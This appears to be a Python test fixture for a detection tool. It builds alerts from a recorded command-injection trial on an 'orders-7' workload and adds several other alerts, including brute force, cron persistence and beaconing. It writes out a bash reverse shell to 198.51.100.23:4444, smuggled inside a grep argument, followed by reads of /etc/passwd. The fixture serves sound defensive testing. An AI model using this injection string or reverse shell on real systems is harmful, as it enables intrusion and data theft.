"""Alerts of the recorded trial for pages: recorded events, beliefs whose ledgers add up; told by hand, tests only."""

from __future__ import annotations

import json
import math
import re
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import msgspec

from lichen.core import ocsf
from lichen.core.alert import Alert, alert_uid
from lichen.core.belief import MALICIOUS, UNUSUAL, Belief, Line
from lichen.core.entity import Subject
from lichen.core.time import MICROSECONDS, day_of, from_text, to_datetime

HERE = Path(__file__).parent
GROUPS = {"profile.path": "exec", "profile.pair": "exec", "profile.rate": "rate", "rule:lichen-77": "rules"}
BEGUN = from_text("2026-11-24T11:15:00Z")
NOW = BEGUN + 8 * 60 * MICROSECONDS


def recorded() -> dict[str, str]:
    """The recorded records by serial (audit) or request id (access log), text whole."""
    found: dict[str, list[str]] = {}
    for line in (HERE / "recorded" / "trial.log").read_text(encoding="utf-8").strip().split("\n"):
        serial = re.search(r"msg=audit\([\d.]+:(\d+)\)", line)
        found.setdefault(serial.group(1) if serial else json.loads(line)["request_id"], []).append(line)
    return {key: "\n".join(lines) for key, lines in found.items()}


def audit_time(raw: str) -> int:
    seconds, milliseconds = re.search(r"audit\((\d+)\.(\d+):", raw).groups()  # type: ignore[union-attr]
    return int(seconds) * MICROSECONDS + int(milliseconds) * 1000


def event(event_id: str, raw: str, class_uid: int, time_us: int, workload: str, **columns: Any) -> dict[str, Any]:
    named = {name.replace("__", "."): value for name, value in columns.items()}
    return {
        "event_id": event_id,
        "raw": raw,
        "class_uid": class_uid,
        "time": to_datetime(time_us),
        "subject.workload": workload,
        **named,
    }


def started(raw: str, parent: str, image: str, command: str, workload: str = "orders-7") -> dict[str, Any]:
    ids = re.search(r" ppid=(\d+) pid=(\d+) ", raw)
    assert ids is not None
    return event(
        f"{ids.group(2)}{command[:6].encode().hex()}".ljust(32, "0"),
        raw,
        ocsf.PROCESS_ACTIVITY,
        audit_time(raw),
        workload,
        activity_id=ocsf.LAUNCH,
        metadata__product__name="auditd",
        actor__user__name="www-data",
        actor__process__file__path=parent,
        actor__process__pid=int(ids.group(1)),
        process__file__path=image,
        process__cmd_line=command,
        process__pid=int(ids.group(2)),
        process__working_directory="/",
    )


def injection() -> list[dict[str, Any]]:
    """The recorded command injection on orders-7: the request, the shells, the connection, what was typed."""
    raw = recorded()
    request = json.loads(raw["738cdcbb7d2b47298798b70d5181a615"])
    dash, bash, python = "/usr/bin/dash", "/usr/bin/bash", "/usr/bin/python3.11"
    quote = (
        'grep -m1 -F -- "x"; bash -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"; echo "" '
        "/srv/app/prices.csv | cut -d, -f2"
    )
    return [
        event(
            "request" + "0" * 25,
            raw[request["request_id"]],
            ocsf.HTTP_ACTIVITY,
            from_text(request["time"]),
            "orders-7",
            actor__user__name=request["user"],
            http_request__http_method=request["method"],
            http_request__url__path=request["path"],
            http_request__url__query_string=request["query"],
            http_response__code=request["status"],
            src_endpoint__ip=request["client"],
            metadata__product__name="access",
        ),
        started(raw["5379"], python, dash, f"sh -c '{quote}'"),
        started(raw["5380"], dash, "/usr/bin/grep", "grep -m1 -F -- x"),
        started(raw["5381"], dash, bash, 'bash -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"'),
        event(
            "connect" + "0" * 25,
            raw["5382"],
            ocsf.NETWORK_ACTIVITY,
            audit_time(raw["5382"]),
            "orders-7",
            activity_id=ocsf.OPEN,
            actor__process__file__path=bash,
            actor__process__pid=5312,
            status_id=ocsf.SUCCESS,
            dst_endpoint__ip="198.51.100.23",
            dst_endpoint__port=4444,
            metadata__product__name="auditd",
        ),
        started(raw["5383"], bash, bash, "bash -i"),
        started(raw["5397"], bash, "/usr/bin/id", "id"),
        started(raw["5404"], bash, "/usr/bin/cat", "cat /etc/passwd"),
        started(raw["5423"], bash, "/usr/bin/ls", "ls -la /srv/app"),
    ]


def line(
    label: str,
    family: str,
    nats: float,
    detector: str = "",
    cause: str = "",
    ids: Sequence[str] = (),
    because: str = "",
    techniques: Sequence[str] = (),
    weight: float | None = None,
) -> Line:
    return Line(
        label=label,
        family=family,
        nats=nats,
        detector=detector,
        cause=cause,
        because=because,
        weight_nats=nats if weight is None else weight,
        score_nats=nats,
        techniques=tuple(techniques),
        sample_event_ids=tuple(ids),
    )


def start() -> Line:
    return line("Starting odds on an ordinary day", "start", math.log(1e-3), because="one attacked window in 1,000")


def belief(
    subject: Subject,
    lines: Sequence[Line],
    shown: float | None = None,
    *,
    window: int = BEGUN,
    p: float = 1.0,
    calibrated: bool = False,
    unusual: float = 0.0,
) -> Belief:
    total = sum(each.nats for each in lines)
    told = total if shown is None else shown
    return Belief(
        subject,
        window,
        total,
        told,
        told - 1.1,
        told + 0.9,
        p,
        unusual or -math.log(p),
        tuple(lines),
        "belief 3f9a1c77",
        calibrated,
    )


def alert(
    beliefs: Sequence[Belief],
    lane: str,
    title: str,
    techniques: Sequence[str] = (),
    *,
    ago_minutes: float = 4,
    status: str = "open",
) -> Alert:
    strongest = beliefs[0]
    last = NOW - round(ago_minutes * 60 * MICROSECONDS)
    return Alert(
        alert_uid(strongest.subject, strongest.window, lane),
        strongest.subject,
        day_of(strongest.window),
        lane,
        title,
        tuple(beliefs),
        last - 150 * MICROSECONDS,
        last,
        tuple(techniques),
        {"profile.pair": "b41c0de2", "classifier.behaviour": "90f3aa17", "rules": "c2d81e04"},
        status,
    )


def shell_alert(events: Sequence[Mapping[str, Any]], status: str = "open") -> Alert:
    request, dash, grep, bash, connect, typed, *further = (str(each["event_id"]) for each in events)
    subject = Subject("workload", "orders-7")
    lines = [
        start(),
        line("What was learned here of the starting odds", "head", math.log(1.15)),
        line(
            "Shell spawned by a web service",
            "rules",
            math.log(18),
            "rule:lichen-0f3c81",
            ids=[dash],
            cause="exec /usr/bin/python3.11 /usr/bin/dash",
            techniques=["T1059.004"],
        ),
        line(
            "Ran bash under dash, never seen on this image",
            "normal",
            math.log(60),
            "profile.pair",
            "exec /usr/bin/dash /usr/bin/bash",
            [bash, typed, *further, grep],
            "ran bash under dash, never seen on this image",
            ["T1059.004"],
            weight=math.log(72),
        ),
        line(
            "First connection of bash to 198.51.100.23:4444",
            "normal",
            math.log(11),
            "profile.destination",
            "net /usr/bin/bash 198.51.100.0/24 4444",
            [connect],
            "first connection of bash to 198.51.100.23:4444",
        ),
        line(
            "Request rate ordinary for a Tuesday, 11:00",
            "normal",
            0.0,
            "profile.rate",
            "rate requests",
            (),
            "request rate ordinary for a Tuesday, 11:00",
            weight=-math.log(1.6),
        ),
        line(
            "Reads like known command injection: sku carries a shell",
            "attacks",
            math.log(9),
            "classifier.behaviour",
            "http POST /api/quote sku:x",
            [request, dash],
            "reads like known command injection: sku carries a shell",
            ["T1190"],
        ),
        line(
            "Many new things at once, as deploys and backups touch",
            "width",
            -math.log((1 + 11) / 8),
            because="11 values new to it",
        ),
    ]
    earlier = belief(subject, [start(), lines[4]], window=BEGUN - 300 * MICROSECONDS)
    return alert(
        [belief(subject, lines), earlier],
        MALICIOUS,
        "orders-7 ran bash under dash and then connected to 198.51.100.23:4444. "
        "No replica of this image has done either before.",
        ["T1190", "T1059.004"],
        status=status,
    )


def other_alerts() -> list[Alert]:
    """Further alerts of the trial, told shortly; their events are not in this desk."""

    def short(
        kind: str, name: str, title: str, technique: str, nats: tuple[float, float, float], ago: float, cause: str
    ) -> Alert:
        parts = zip(
            ("rules", "normal", "attacks"),
            ("rule:lichen-77", "profile.path", "classifier.behaviour"),
            nats,
            strict=True,
        )
        lines = [start(), *(line(title, family, n, detector, cause) for family, detector, n in parts if n)]
        return alert([belief(Subject(kind, name), lines)], MALICIOUS, title, [technique], ago_minutes=ago)

    found = [
        short(
            "workload",
            "admin-1",
            "4 failed log-ons of diego, then one that worked, from 203.0.113.7, where diego never logged in",
            "T1110.001",
            (3.9, 4.1, 1.8),
            6,
            "auth diego 203.0.113.0/24",
        ),
        short(
            "workload",
            "batch-1",
            "batch-1: new file /etc/cron.d/sysupd, written by dash",
            "T1053.003",
            (4.4, 3.2, 1.1),
            6,
            "file /usr/bin/dash /etc/cron.d/sysupd",
        ),
        short(
            "workload",
            "orders-15",
            "orders-15 asks 198.51.100.23:8443 every 5 s, ± 1 s, since 11:17",
            "T1071.001",
            (0.0, 6.6, 2.0),
            5,
            "net /usr/bin/python3.11 198.51.100.0/24 8443",
        ),
        short(
            "user",
            "farid",
            "farid read 4,112 customers in 20 minutes; usually 3 to 40 a day",
            "T1213",
            (0.0, 6.1, 2.1),
            4,
            "rate objects",
        ),
    ]
    rare = [
        ("gateway-10", "first write to /usr/bin/date outside a package upgrade", 1 / 3000, 7),
        ("orders-13", "orders-13 asks DNS for 48-character names; other replicas ask for 9", 1 / 1100, 5),
    ]
    for name, title, p, ago in rare:
        lines = [
            start(),
            line("A system binary was written", "rules", 0.9, "rule:lichen-77", "file /usr/bin/dash /usr/bin/date"),
            line(title, "normal", 0.0, "profile.path", "file /usr/bin/dash /usr/bin/date", weight=4.2),
            line("Ran dash under sh, new for this replica", "normal", 0.0, "profile.pair", "exec sh dash", weight=1.5),
            line("Quiet for this hour", "normal", 0.0, "profile.rate", "rate file", weight=-0.3),
        ]
        grouped = [msgspec.structs.replace(each, group=GROUPS.get(each.detector, "")) for each in lines]
        found.append(
            alert([belief(Subject("workload", name), grouped, p=p, unusual=3.6)], UNUSUAL, title, ago_minutes=ago)
        )
    return found
